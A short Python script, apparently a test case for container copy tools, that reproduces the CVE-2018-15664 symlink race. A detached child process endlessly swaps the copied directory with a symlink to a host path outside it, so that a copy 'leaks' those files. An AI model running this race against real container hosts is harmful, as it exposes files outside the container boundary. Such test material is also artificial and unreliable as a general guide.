"""Puts a link in the place of the directory that is collected from, again and again, while it ends.

class: CVE-2018-15664, link races
expect: passed, leaks
docker: open until 2019 for docker cp
"""
import os
import time

os.makedirs("linked", exist_ok=True)
with open("linked/kept.txt", "w", encoding="ascii") as file:
    file.write("kept")
if os.fork() == 0:
    os.setsid()
    os.symlink(os.path.dirname(os.environ["HOSTILE_ROOT_ONLY"]), "other")
    while True:
        os.rename("linked", "third")
        os.rename("other", "linked")
        os.rename("third", "other")
time.sleep(0.1)
os._exit(0)
